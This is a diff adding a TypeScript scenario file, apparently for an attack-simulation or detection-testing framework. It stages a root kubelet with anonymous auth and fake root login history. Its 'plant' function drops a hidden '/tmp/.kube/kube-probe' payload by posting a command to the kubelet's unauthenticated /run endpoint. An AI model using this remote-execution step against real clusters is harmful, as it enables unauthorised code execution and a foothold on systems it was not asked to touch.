@@ -1,0 +1,26 @@
+// Played by a toy; its log is in the journal and in syslog.
+import type { Dress } from '../../dress.ts'
+import { dropper } from '../../dropper.ts'
+import type { Stage } from '../../stage.ts'
+
+export function dress(dress: Dress): void {
+  dress.toy({
+    unit: 'kubelet',
+    user: 'root',
+    exe: '/usr/bin/kubelet',
+    title: '/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml --anonymous-auth=true',
+    home: '/var/lib/kubelet',
+    play: 'kubelet',
+  })
+  dress.logins({
+    days: 12,
+    guesses: 40,
+    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
+  })
+}
+
+export async function plant(stage: Stage): Promise<void> {
+  const line = dropper(stage, { path: '/tmp/.kube/kube-probe', cron: false })
+  stage.mark('occurrence')
+  await stage.http('203.0.113.32', ':10250/run/default/web-7d9c/web', `cmd=${encodeURIComponent(line)}`)
+}
